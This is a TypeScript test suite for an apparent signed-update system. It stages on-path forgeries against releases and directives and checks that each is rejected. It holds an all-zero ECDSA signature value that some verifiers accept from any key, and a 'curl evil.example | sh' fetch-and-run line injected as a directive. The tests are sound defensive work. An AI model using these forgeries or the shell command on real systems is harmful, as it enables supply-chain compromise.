import { createPrivateKey } from 'node:crypto';
import { toBase64 } from '../../../../core/integrity/base64.ts';
import type { DsseEnvelope } from '../../../../schemas/documents.ts';
import { newSigningKey, signingKeyOf } from '../../../support/signing-keys.ts';
import { attacks } from '../stage/attack.ts';
import { forged, reworded, withPredicate } from '../stage/forgery.ts';
import { bendingCheckIns, bendingContent, bendingDirectives, bendingReleases } from '../stage/on-the-way.ts';
import { onThePath } from '../stage/pending.ts';

const own = newSigningKey();
const evil = withPredicate({ snapshot: { name: 'evil', revision: 1, digest: 'e'.repeat(64) } });
const evilRelease = withPredicate({ stable: { generation: 9, digest: 'e'.repeat(64) } });

/** The hint that goes with the true signature. */
const hint = ({ signatures }: DsseEnvelope): string => signatures[0]?.keyid ?? '';
const resigned = (envelope: DsseEnvelope, sig: Uint8Array): DsseEnvelope => ({
  ...envelope,
  signatures: [{ keyid: hint(envelope), sig: toBase64(sig) }],
});

/** Content, releases and directives of the attacker's own making. */
export const ARBITRARY_SOFTWARE = attacks('arbitrary software', 'path', [
  {
    name: 'content of the same length at the same address',
    mount: onThePath(() => bendingContent((bytes) => bytes.map(() => 0x20))),
    told: ['digest_mismatch', 'digest_mismatch'],
  },
  {
    name: 'a release signed with a key of his own',
    mount: onThePath(() => bendingReleases((envelope) => forged(envelope, own, evil))),
    told: ['unknown_key'],
  },
  {
    name: 'a release signed with a key of his own that is said to be the true one',
    mount: onThePath(() => bendingReleases((envelope) => forged(envelope, own, evil, hint(envelope)))),
    told: ['bad_signature'],
  },
  {
    name: 'another release under the true signature',
    mount: onThePath(() => bendingReleases((envelope) => reworded(envelope, evil))),
    told: ['bad_signature'],
  },
  {
    name: 'a directive of his own that names a release of his own',
    mount: onThePath(() => bendingDirectives((envelope) => forged(envelope, own, evilRelease))),
    told: ['unknown_key'],
  },
  {
    name: 'a directive under a signature of zeros, which some verifiers take from any key',
    mount: onThePath(() =>
      bendingDirectives((envelope) =>
        resigned(reworded(envelope, evilRelease), Buffer.from('3006020100020100', 'hex')),
      ),
    ),
    told: ['bad_signature'],
  },
  {
    name: 'a directive under an empty signature',
    mount: onThePath(() =>
      bendingDirectives((envelope) => resigned(reworded(envelope, evilRelease), new Uint8Array())),
    ),
    told: ['bad_signature'],
  },
  {
    name: 'a directive signed with the key of the node itself',
    mount: onThePath(async ({ node }) => {
      const pem = Buffer.from((await node.files.read('keys/identity.pem')) ?? []);
      const identity = signingKeyOf(createPrivateKey(pem));
      return bendingDirectives((envelope) => forged(envelope, identity, evilRelease));
    }),
    told: ['unknown_key'],
  },
  {
    name: 'something that is no document',
    mount: onThePath(() => bendingCheckIns((answer) => ({ ...answer, directive: 'curl evil.example | sh' }))),
    told: [],
    shown: { log: 'check_in_denied bad_answer' },
  },
]);
